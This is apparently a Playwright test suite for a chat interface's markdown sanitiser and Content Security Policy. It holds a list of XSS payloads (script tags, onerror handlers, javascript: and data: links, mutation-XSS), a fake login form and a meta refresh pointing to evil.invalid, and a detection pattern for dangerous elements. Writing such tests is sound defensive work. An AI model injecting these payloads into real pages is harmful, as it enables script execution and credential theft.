"""What a model writes cannot act, and the page leaks nothing."""

import pytest
from playwright.sync_api import Request, expect

from tests.page.conftest import Chat
from tests.page.speaking_engine import SpeakingEngine, text, thoughts, whole

ATTACKS = {
    "script tag": "<script>window.hit = 1</script>",
    "script in a block": "\n\n<script>\nwindow.hit = 1\n</script>\n\n",
    "event handler": '<img src="x" onerror="window.hit = 1">',
    "svg": '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
    "javascript link": "[click](javascript:window.hit=1)",
    "javascript link in disguise": "[click](  JaVaScRiPt&colon;window.hit=1) [b](java\nscript:window.hit=1)",
    "autolink": "<javascript:window.hit=1>",
    "vbscript and data": "[a](vbscript:hit) [b](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "reference": "[a][x]\n\n[x]: javascript:window.hit=1\n",
    "form": '<form action="https://evil.invalid"><input name="key"><button>Log in</button></form>',
    "frame": '<iframe src="javascript:parent.hit=1"></iframe><object data="x"></object><embed src="x">',
    "style": '<style>body{display:none}</style><p style="position:fixed;inset:0">over</p>',
    "meta and base": '<meta http-equiv="refresh" content="0;url=https://evil.invalid"><base href="https://evil.invalid">',
    "title": '[a](https://example.com "x\\" onmouseover=\\"window.hit=1")',
    "image text": '![x" onerror="window.hit=1](https://example.com/a.png)',
    "svg image": "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "fence name": '```"><img src=x onerror="window.hit=1">\ncode\n```',
    "code": "```html\n<script>window.hit = 1</script>\n```",
    "comment": "<!--><img src=x onerror='window.hit=1'>-->",
    "cdata": "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    "mutation": "<math><mtext><table><mglyph><style><img src onerror=window.hit=1></style></mglyph></table></mtext></math>",
}
HARMLESS = """(markdown) => [...markdown.querySelectorAll("*")].flatMap((element) => [
  ...(element.matches("script, style, form, input, iframe, object, embed, svg:not(.icon), meta, base, link, math, video")
    ? [element.outerHTML] : []),
  ...[...element.attributes].filter(({ name, value }) =>
    /^on|^style$|^srcdoc$/.test(name) || (/^(href|src|action)$/.test(name) && /^\\s*(javascript|vbscript|data:text)/i.test(value)))
    .map(({ name, value }) => `${name}=${value}`),
])"""


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_a_model_writes_acts(chat: Chat, engine: SpeakingEngine, attack: str) -> None:
    """Case H71: the part about escapes."""
    written = ATTACKS[attack]
    engine.plays(whole(thoughts(written), text("before\n\n", *written, "\n\nafter")))
    chat.ask("attack")
    chat.answer.locator(".reasoning summary").click()
    for place in (".markdown", ".thoughts"):
        assert chat.answer.locator(place).evaluate(HARMLESS) == []
    for link in chat.answer.locator(".markdown a").all():
        link.dispatch_event("click")
    chat.answer.locator(".markdown").hover()
    assert chat.page.evaluate("window.hit") is None
    assert chat.page.url.startswith(chat.url)
    expect(chat.answer.locator(".markdown")).to_contain_text("after")


def test_images_do_not_phone_home_and_links_open_elsewhere_without_a_referrer(
    chat: Chat, engine: SpeakingEngine
) -> None:
    asked: list[Request] = []
    chat.page.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - it has to be a function
    engine.plays(whole(text("![chart](https://tracker.invalid/x.png?key=1) and [docs](https://example.invalid/)")))
    chat.ask("show")
    image = chat.answer.locator("a.image")
    expect(image).to_have_text("chart")
    expect(chat.answer.locator(".markdown img")).to_have_count(0)
    for link in chat.answer.locator(".markdown a").all():
        assert link.get_attribute("target") == "_blank"
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert all(request.url.startswith(chat.url) for request in asked)


def test_an_image_that_is_in_the_text_itself_is_shown(chat: Chat, engine: SpeakingEngine) -> None:
    dot = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    engine.plays(whole(text(f"![dot]({dot})")))
    chat.ask("show")
    assert chat.answer.locator(".markdown img").evaluate("img => img.decode().then(() => img.naturalWidth)") == 1


def test_the_policy_forbids_inline_code_eval_and_other_hosts(chat: Chat) -> None:
    """Even what got past the sanitiser would not run."""
    chat.expected = ("Content Security Policy", "violates", "Refused", "Fetch API cannot load", "404")
    chat.page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.hit = 'inline'";
          document.body.append(script);
          const image = document.createElement("div");
          image.innerHTML = "<img src=x onerror='window.hit = 1'>";
          document.body.append(image);
        }"""
    )
    chat.page.wait_for_timeout(100)
    assert chat.page.evaluate("window.hit") is None
    assert chat.page.evaluate("fetch('https://example.invalid/').catch(() => 'blocked')") == "blocked"
    assert (
        chat.page.evaluate(
            "new Promise((r) => { setTimeout(() => { try { r(eval('1')); } catch { r('blocked'); } }); })"
        )
        == "blocked"
    )


def test_a_whole_visit_breaks_no_rule_of_the_policy(chat: Chat, engine: SpeakingEngine) -> None:
    chat.page.evaluate("addEventListener('securitypolicyviolation', (e) => { window.broken = e.violatedDirective; })")
    engine.plays(whole(thoughts("hm"), text("# T\n\n```python\nx = 1\n```\n\n|a|b|\n|:-:|-:|\n|1|2|\n")))
    chat.ask("everything")
    chat.button("Settings").click()
    chat.page.keyboard.press("Escape")
    chat.page.get_by_role("link", name="Status").click()
    expect(chat.page.locator(".lane canvas").first).to_be_visible()
    assert chat.page.evaluate("window.broken") is None


def test_an_imported_conversation_is_as_harmless_as_a_live_one(chat: Chat) -> None:
    chat.page.evaluate(
        """async (module) => {
          const { imported } = await import(module);
          const said = { role: "assistant", state: "done", finish: "stop",
                         content: "<img src=x onerror='window.hit=1'> [x](javascript:window.hit=1)" };
          await imported({ format: "tokenlane.conversations", conversations: [{ id: "evil", title: "<b>x", messages: [said] }] });
        }""",
        chat.module("conversations.js"),
    )
    chat.page.reload()
    chat.page.goto(f"{chat.url}/#/c/evil")
    expect(chat.answer.locator(".markdown")).to_contain_text("onerror")
    assert chat.answer.locator(".markdown").evaluate(HARMLESS) == []
    expect(chat.page.locator(".title")).to_have_text("<b>x")
    assert chat.page.evaluate("window.hit") is None
